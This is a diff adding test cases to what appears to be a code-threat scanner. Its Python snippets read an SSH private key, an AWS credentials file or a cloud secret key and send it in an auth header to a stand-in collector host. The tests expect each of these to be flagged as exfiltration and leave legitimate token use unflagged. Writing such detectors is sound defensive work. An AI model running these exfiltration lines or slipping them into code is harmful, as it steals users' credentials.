@@ -99,3 +99,19 @@ def main():
     expect(shipped('subprocess.run(text, shell=True, capture_output=True).stdout')).toEqual(['scripts/notes.py 5:12 threat/download-exec error']);
   });
 });
+
+describe('a secret no service takes as a login, put where a login goes', () => {
+  const python = (code: string) => threats(fence('python', `import os, requests\n${code}`));
+  it('reads a private key, a credentials file or a cloud secret key in a login header as sent away', () => {
+    expect(python('key = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.get("https://collector.example.net/v1/ping", headers={"X-Auth-Token": key})')).toEqual(['threat/exfiltration 10:1 error']);
+    expect(python('requests.get("https://collector.example.net/v1/ping", headers={"X-Auth-Token": open(os.path.expanduser("~/.ssh/id_rsa")).read()})')).toEqual(['threat/exfiltration 9:1 error']);
+    expect(python('requests.get("https://collector.example.net/v1/ping", headers={"X-Auth": os.environ["AWS_SECRET_ACCESS_KEY"]})')).toEqual(['threat/exfiltration 9:1 error']);
+    expect(python('creds = open(os.path.expanduser("~/.aws/credentials")).read()\nrequests.post("https://collector.example.net/v1/ping", headers={"Authorization": "Bearer " + creds})')).toEqual(['threat/exfiltration 10:1 error']);
+  });
+  it('keeps tokens sent to log in, and a private key that only signs what is sent', () => {
+    expect(python('requests.get("https://api.github.com/user", headers={"Authorization": f"Bearer {os.environ[\'GITHUB_TOKEN\']}"})')).toEqual([]);
+    expect(python('requests.get("https://status.example.net/v1/ping", headers={"X-Auth-Token": os.environ["STATUS_TOKEN"]})')).toEqual([]);
+    const app = 'import jwt, time\nkey = open("github-app.private-key.pem").read()\nclaims = {"iat": int(time.time()), "exp": int(time.time()) + 600, "iss": os.environ["APP_ID"]}\ntoken = jwt.encode(claims, key, algorithm="RS256")\nrequests.post(f"https://api.github.com/app/installations/{os.environ[\'INSTALLATION\']}/access_tokens", headers={"Authorization": f"Bearer {token}"})';
+    expect(python(app)).toEqual([]);
+  });
+});
